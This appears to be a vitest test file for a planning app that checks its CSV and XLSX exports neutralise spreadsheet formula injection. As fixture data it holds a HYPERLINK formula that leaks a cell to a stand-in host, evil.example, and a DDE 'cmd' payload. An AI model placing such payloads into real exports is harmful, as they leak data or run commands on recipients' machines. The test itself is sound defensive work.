/**
 * CSV/formula injection (issue 12): a text that a spreadsheet would run as a formula (`=HYPERLINK(…)`, `+…`,
 * `-…`, `@…`, a leading tab or CR) is written with a leading `'` in open data (CSV, XLSX) and in the task
 * workbook; plain signed numbers stay numbers.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  getIndicatorRow,
  getPlanRow,
  listTasks,
  publishPlan,
  SYSTEM_ACTOR,
  updateIndicator,
  updateTask,
} from '@gangmu/storage';
import { as, DRIVERS, startFixture, type Fixture } from './helpers.ts';

const EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")';

async function sheetTexts(body: Buffer): Promise<string[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const texts: string[] = [];
  for (const sheet of wb.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') texts.push(cell.value);
      }),
    );
  return texts;
}

const startsFormula = (s: string) => /^[=+\-@\t\r]/.test(s) && !/^[+-]\d+(?:\.\d+)?%?$/.test(s);

for (const driver of DRIVERS) {
  describe(`${driver}: spreadsheet cells`, () => {
    let f: Fixture;
    beforeAll(async () => {
      f = await startFixture(driver);
      const k = f.t.db.kysely;
      const ind = await getIndicatorRow(k, f.indicatorA);
      await updateIndicator(k, SYSTEM_ACTOR, ind.id, ind.version, {
        name: EVIL,
        category: "+cmd|' /C calc'!A0",
        unit: '@SUM(1+1)',
      });
      await publishPlan(k, SYSTEM_ACTOR, f.planId, (await getPlanRow(k, f.planId)).version);
    });
    afterAll(() => f.close());

    it('should write open data CSV with every formula-like text neutralised', async () => {
      const csv = await f.app.inject({ method: 'GET', url: `/api/plans/${f.planId}/open-data.csv` });
      expect(csv.statusCode).toBe(200);
      expect(csv.body).toContain(`"'${EVIL.replace(/"/g, '""')}"`);
      expect(csv.body).toContain(`'+cmd|' /C calc'!A0`);
      expect(csv.body).toContain(`'@SUM(1+1)`);
      const cells = csv.body.split('\r\n').flatMap((line) => line.split(','));
      expect(cells.filter((c) => startsFormula(c.replace(/^"/, '')))).toEqual([]);
    });

    it('should write open data XLSX with every formula-like text neutralised', async () => {
      const xlsx = await f.app.inject({ method: 'GET', url: `/api/plans/${f.planId}/open-data.xlsx` });
      const texts = await sheetTexts(xlsx.rawPayload);
      expect(texts).toContain(`'${EVIL}`);
      expect(texts.filter(startsFormula)).toEqual([]);
    });

    it('should write the task workbook with formula-like titles neutralised', async () => {
      await f.app.inject({
        method: 'POST',
        url: `/api/plans/${f.planId}/tasks/generate`,
        headers: as(f.sessions.admin),
      });
      const [task] = await listTasks(f.t.db.kysely, { planId: f.planId });
      await updateTask(f.t.db.kysely, SYSTEM_ACTOR, task!.id, task!.version, {
        title: '-1+1',
        expectedResult: '\t=cmd',
      });
      const xlsx = await f.app.inject({
        method: 'GET',
        url: `/api/plans/${f.planId}/tasks.xlsx`,
        headers: as(f.sessions.admin),
      });
      const texts = await sheetTexts(xlsx.rawPayload);
      expect(texts).toEqual(expect.arrayContaining(["'-1+1", "'\t=cmd"]));
      expect(texts.filter(startsFormula)).toEqual([]);
    });
  });
}
